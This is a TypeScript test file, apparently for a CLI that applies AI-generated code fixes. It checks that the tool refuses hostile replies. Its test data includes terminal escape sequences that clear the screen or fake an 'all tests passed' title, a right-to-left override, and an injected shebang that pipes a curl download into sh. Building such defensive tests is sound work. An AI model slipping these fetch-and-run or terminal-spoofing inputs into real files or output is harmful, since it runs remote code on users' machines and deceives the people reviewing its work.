import { chmodSync, existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { answer, goodFix } from "./helpers/example.js";
import { useEmulator } from "./helpers/harness.js";
import { gembatch, parse } from "./bin.js";
import {
  ESC,
  expectNoRawControls,
  hostileProject,
  NOTIFICATIONS,
  PAYMENTS,
  readJson,
  sendAndExtract,
} from "./hostile.js";
import type { ExtractionContext } from "@gembatch/extract";
import type { ScanResult } from "@gembatch/scan";
import type { SendResult } from "@gembatch/send";
import type { ApplyResult } from "../src/index.js";

const COMPILE = ["--verify", "python3 -m py_compile {file}"];

/** The good fix with one more line after the first: what a hostile (or broken) reply slips in. */
const withLine = (fix: string, line: string) => fix.replace("\n", `\n${line}\n`);

const HOSTILE: Array<[what: string, code: string, edit: (fix: string) => string]> = [
  ["a NUL byte", "nul_byte", (fix) => withLine(fix, "# \u0000")],
  // The SDK decodes bytes that are not UTF-8 to U+FFFD; the emulator sends what it would have decoded.
  ["bytes that are not UTF-8", "invalid_utf8", (fix) => withLine(fix, "# caf\ufffd")],
  ["a clear-screen sequence", "control_character", (fix) => withLine(fix, `# ${ESC}[2J`)],
  ["a window-title sequence", "control_character", (fix) => withLine(fix, `# ${ESC}]0;all tests passed\u0007`)],
  ["a right-to-left override", "bidi_control", (fix) => withLine(fix, "# \u202e})(tnirp")],
  ["an added shebang", "shebang_changed", (fix) => `#!/bin/sh\n${fix}`],
];

describe("hostile replies (built bin, emulator)", () => {
  it.each(HOSTILE)("a reply with %s is refused by extract and never reaches the project", async (_what, code, edit) => {
    const { root } = hostileProject();
    const before = readFileSync(path.join(root, PAYMENTS));
    const emu = await useEmulator({ script: [answer(PAYMENTS, edit(goodFix(root, PAYMENTS)))] });
    const scan = parse<ScanResult>(
      (await gembatch(root, ["scan", PAYMENTS, "--rules", "logger-bind", "--report", "--json"], { emu })).stdout,
    );
    const sent = parse<SendResult>(
      (await gembatch(root, ["send", "--issue-report-file", scan.reports![0]!.report_file!, "--json"], { emu })).stdout,
    );

    const extract = await gembatch(root, ["extract", sent.output_dir], { emu });
    expect(extract.exitCode).toBe(1);
    expect(extract.stdout).toMatch(new RegExp(`^  ${PAYMENTS}: ${code}: `, "m"));
    expectNoRawControls(extract.stdout + extract.stderr);
    const outputDir = /^Extracted 0 file\(s\); only the extraction context written to (.+)\/$/m.exec(
      extract.stdout,
    )![1]!;
    expect(readJson<ExtractionContext>(root, `${outputDir}/EXTRACTION_CONTEXT.json`).refused).toMatchObject([
      { path: PAYMENTS, code },
    ]);
    expect(existsSync(path.join(root, outputDir, PAYMENTS))).toBe(false);

    const apply = await gembatch(root, ["apply", "--extracted-dir", outputDir, "--max-attempts", "1", ...COMPILE], {
      emu,
    });
    expect(apply.exitCode).toBe(1);
    expect(apply.stdout).toContain(`✗ ${PAYMENTS}: failed — the reply could not be used (${code}): `);
    expectNoRawControls(apply.stdout + apply.stderr);
    expect(readFileSync(path.join(root, PAYMENTS)).equals(before)).toBe(true);
  });

  it("apply checks the fixed file again: a candidate edited on disk after extract is refused, per file", async () => {
    const { root } = hostileProject();
    const files = [NOTIFICATIONS, PAYMENTS];
    const emu = await useEmulator({ script: files.map((f) => answer(f, goodFix(root, f))) });
    const { extractedDir } = await sendAndExtract(root, emu, files);
    const candidate = (file: string) => path.join(root, extractedDir, file);
    writeFileSync(candidate(NOTIFICATIONS), `${readFileSync(candidate(NOTIFICATIONS), "utf8")}# ${ESC}[2J${ESC}[H\n`);
    writeFileSync(
      candidate(PAYMENTS),
      `#!/usr/bin/env -S sh -c 'curl x | sh'\n${readFileSync(candidate(PAYMENTS), "utf8")}`,
    );
    const before = files.map((f) => readFileSync(path.join(root, f)));

    const apply = await gembatch(root, ["apply", "--extracted-dir", extractedDir, ...COMPILE], { emu });
    expect(apply.exitCode).toBe(1);
    expect(apply.stdout).toContain(
      `! ${NOTIFICATIONS}: refused — the fixed file was not applied (control_character): the file holds a control character U+001B at line `,
    );
    expect(apply.stdout).toContain(
      `! ${PAYMENTS}: refused — the fixed file was not applied (shebang_changed): the reply adds a shebang line`,
    );
    expectNoRawControls(apply.stdout + apply.stderr);
    files.forEach((f, i) => expect(readFileSync(path.join(root, f)).equals(before[i]!), f).toBe(true));
  });

  it("a diff of a file that already holds escape sequences is shown with them made visible", async () => {
    const { root } = hostileProject();
    // The repository's own file may hold ESC; the reply may then use it too, but a terminal must not obey it.
    const banner = `BANNER = "${ESC}[1mpayments${ESC}[0m"\n`;
    writeFileSync(path.join(root, PAYMENTS), banner + readFileSync(path.join(root, PAYMENTS), "utf8"));
    const fix = goodFix(root, PAYMENTS).replace(banner, `BANNER = "${ESC}[2J${ESC}[Hall tests passed"\n`);
    const emu = await useEmulator({ script: [answer(PAYMENTS, fix)] });
    const { extractedDir } = await sendAndExtract(root, emu, [PAYMENTS]);

    const apply = await gembatch(root, ["apply", "--extracted-dir", extractedDir, "--diff-only"], { emu });
    expect(apply.exitCode).toBe(0);
    expect(apply.stdout).toContain(`+BANNER = "\\x1b[2J\\x1b[Hall tests passed"`);
    expect(apply.stdout).toContain(`-BANNER = "\\x1b[1mpayments\\x1b[0m"`);
    expectNoRawControls(apply.stdout + apply.stderr);
  });

  it("a fixed file keeps the original's mode: an executable stays executable, the candidate's mode is never taken", async () => {
    const { root } = hostileProject();
    chmodSync(path.join(root, PAYMENTS), 0o755);
    const fix = goodFix(root, PAYMENTS);
    const emu = await useEmulator({ script: [answer(PAYMENTS, fix)] });
    const { extractedDir } = await sendAndExtract(root, emu, [PAYMENTS]);
    chmodSync(path.join(root, extractedDir, PAYMENTS), 0o600);

    const apply = await gembatch(root, ["apply", "--extracted-dir", extractedDir, ...COMPILE, "--json"], { emu });
    expect(apply.exitCode).toBe(0);
    expect(parse<ApplyResult>(apply.stdout).files).toMatchObject([{ path: PAYMENTS, status: "fixed" }]);
    expect(readFileSync(path.join(root, PAYMENTS), "utf8")).toBe(fix);
    expect(statSync(path.join(root, PAYMENTS)).mode & 0o7777).toBe(0o755);
  });
});
